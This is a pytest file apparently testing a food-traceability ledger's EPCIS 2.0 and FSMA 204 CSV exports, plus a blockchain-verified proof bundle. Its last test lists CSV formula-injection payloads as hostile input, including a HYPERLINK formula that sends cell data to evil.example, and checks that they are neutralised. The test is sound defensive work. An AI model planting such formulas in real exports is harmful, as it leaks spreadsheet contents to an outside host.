"""EPCIS 2.0 and FSMA 204 exports of the demo, and the proof bundle the page offers."""

from __future__ import annotations

import copy
import csv
import io
import json

from epcis_event_hash_generator.file_document_loader import file_document_loader
from epcis_event_hash_generator.hash_generator import epcis_hashes_from_events
from epcis_event_hash_generator.json_to_py import event_list_from_epcis_document_json
from pyld import jsonld
from typer.testing import CliRunner
from web3 import Web3

from ledger.cli import app
from ledger.demo import DEMO_BAG, DEMO_LOAF
from ledger.epcis import EPCIS_CONTEXT
from ledger.identifiers import batch_id, parse_digital_link
from ledger.verify import verify_bundle

BAG = "0x" + batch_id(*DEMO_BAG).hex()
LOAF = "0x" + batch_id(*DEMO_LOAF).hex()
EPCIS = "https://ref.gs1.org/epcis/"


def lineage_lots(client, root):
    lots = set()

    def walk(node):
        lots.add((node["gtin"], node["lot"]))
        for child in node.get("inputs", []):
            walk(child)

    walk(client.get(f"/api/v1/batches/{root}/lineage").json()["tree"])
    return lots


def test_epcis_export_is_a_complete_epcis_2_document(client):
    response = client.get(f"/api/v1/batches/{BAG}/epcis")
    assert response.status_code == 200 and response.headers["content-type"] == "application/ld+json"
    document = response.json()
    assert document["@context"][0] == EPCIS_CONTEXT and document["type"] == "EPCISDocument" and document["schemaVersion"] == "2.0"
    events = document["epcisBody"]["eventList"]
    assert {e["type"] for e in events} == {"ObjectEvent", "TransformationEvent"}
    # Valid JSON-LD under the standard context (GS1's copy bundled with the hash generator, so offline).
    jsonld.set_document_loader(file_document_loader())
    expanded = jsonld.expand(copy.deepcopy(document))
    assert expanded[0]["@type"] == [EPCIS + "EPCISDocument"]
    body = expanded[0][EPCIS + "epcisBody"][0][EPCIS + "eventList"]
    assert {t for e in body for t in e["@type"]} == {EPCIS + "ObjectEvent", EPCIS + "TransformationEvent"}
    assert len(body) == len(events)
    # Each event hash is the CBV 2.0 algorithm's, recomputed from the document itself.
    without_ids = copy.deepcopy(document)
    for e in without_ids["epcisBody"]["eventList"]:
        e.pop("eventID")
    assert [e["eventID"] for e in events] == epcis_hashes_from_events(event_list_from_epcis_document_json(without_ids))
    assert all(e["eventID"].startswith("ni:///sha-256;") for e in events) and len({e["eventID"] for e in events}) == len(events)
    # Identifiers round-trip: every class is a lot of the lineage, as a GS1 Digital Link.
    classes = {q["epcClass"] for e in events for key in ("quantityList", "inputQuantityList", "outputQuantityList") for q in e.get(key, [])}
    parsed = {(link.gtin, link.lot) for link in map(parse_digital_link, classes)}
    assert parsed == lineage_lots(client, BAG)
    commissioning = [e for e in events if e.get("bizStep") == "commissioning" and e["type"] == "ObjectEvent"]
    assert {e["quantityList"][0]["uom"] for e in commissioning} == {"KGM"} and len(commissioning) == 3  # the farms
    merge = next(e for e in events if e["type"] == "TransformationEvent" and e["bizStep"] == "assembling")
    assert sum(q["quantity"] for q in merge["inputQuantityList"]) == 26_000 and merge["outputQuantityList"][0]["quantity"] == 26_000
    bags = [e for e in events if e["type"] == "TransformationEvent" and "TP-B-1107-A" in e["outputQuantityList"][0]["epcClass"]]
    assert bags and "uom" not in bags[0]["outputQuantityList"][0]  # pieces are counted, not measured
    certified = [e for e in events if "certificationInfo" in e]
    assert {e["pl:claim"] for e in certified} == {"FAIRTRADE", "ORGANIC", "DEFORESTATION_FREE"}
    assert any(e["disposition"] == "non_conformant" for e in certified)  # the revocation
    handover = next(e for e in events if e.get("bizStep") == "accepting")
    assert handover["sourceList"][0]["type"] == "possessing_party" and handover["destinationList"][0]["destination"].startswith("did:pkh:eip155:31337:0x")
    assert all(e["pl:txHash"].startswith("0x") for e in events)
    times = [e["eventTime"] for e in events]
    assert times == sorted(times)


def test_the_recall_appears_in_the_loafs_epcis_and_the_cli_writes_the_same_document(client, site, tmp_path):
    document = client.get(f"/api/v1/batches/{LOAF}/epcis").json()
    recall_events = [e for e in document["epcisBody"]["eventList"] if e.get("disposition") == "recalled"]
    # The recall with its reason, then the admin's review upholding it.
    assert [(e.get("pl:recallReview"), e["pl:reason"]) for e in recall_events] == [
        (None, "Deoxynivalenol above the EU limit in retained sample"),
        ("upheld", "Confirmed by the accredited laboratory's analysis of the retained sample")]  # fmt: skip
    out = tmp_path / "loaf.jsonld"
    env = {"PROVENANCE_DATA_DIR": str(site.settings.data_dir), "PROVENANCE_RPC_URL": site.settings.rpc_url,
           "PROVENANCE_PUBLIC_BASE_URL": site.settings.public_base_url}  # fmt: skip
    result = CliRunner().invoke(app, ["export", "epcis", *DEMO_LOAF, "-o", str(out)], env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.stdout
    written = json.loads(out.read_text())
    assert written["epcisBody"] == document["epcisBody"]


def test_fsma_204_csv_has_one_sortable_row_per_tracking_event(client, site):
    response = client.get(f"/api/v1/batches/{LOAF}/fsma.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows[0].keys() >= {"event_time_utc", "critical_tracking_event", "traceability_lot_code", "quantity", "reference_document"}
    assert [r["event_time_utc"] for r in rows] == sorted(r["event_time_utc"] for r in rows)
    transformation = next(r for r in rows if r["critical_tracking_event"] == "Transformation")
    assert transformation["lot"] == DEMO_LOAF[1] and transformation["quantity"] == "600"
    assert "(10)MV-F-2211" in transformation["input_lot_codes"] and "(10)ACG-C-0918" in transformation["input_lot_codes"]
    shipped = next(r for r in rows if r["critical_tracking_event"] == "Shipping" and r["lot"] == "MV-F-2211")
    assert shipped["immediate_subsequent_recipient"] == "Boulangerie des Tilleuls"
    env = {"PROVENANCE_DATA_DIR": str(site.settings.data_dir), "PROVENANCE_RPC_URL": site.settings.rpc_url}
    result = CliRunner().invoke(app, ["export", "csv", *DEMO_LOAF], env=env, catch_exceptions=False)
    assert result.exit_code == 0 and result.stdout == response.text


def test_the_page_offers_a_proof_bundle_that_verifies_against_the_node(client, site):
    page = client.get(f"/01/{DEMO_BAG[0]}/10/{DEMO_BAG[1]}").text
    assert f'href="/api/v1/batches/{BAG}/proof"' in page
    response = client.get(f"/api/v1/batches/{BAG}/proof")
    assert response.status_code == 200 and "attachment" in response.headers["content-disposition"]
    bundle = response.json()
    assert bundle["lot"] == DEMO_BAG[1] and len(bundle["lineage"]) == 6
    report = verify_bundle(Web3(Web3.HTTPProvider(site.settings.rpc_url)), bundle)
    assert report.ok, [c.__dict__ for c in report.mismatches]


def test_fsma_csv_cells_that_look_like_formulas_are_neutralised():
    # A supplier's step location or a name is attacker-controlled text.
    from ledger.epcis import spreadsheet_safe

    for hostile in ['=HYPERLINK("http://evil.example/?"&A1,"verified")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]:
        assert spreadsheet_safe(hostile) == "'" + hostile
    assert spreadsheet_safe("Pitalito, CO") == "Pitalito, CO" and spreadsheet_safe(600) == 600
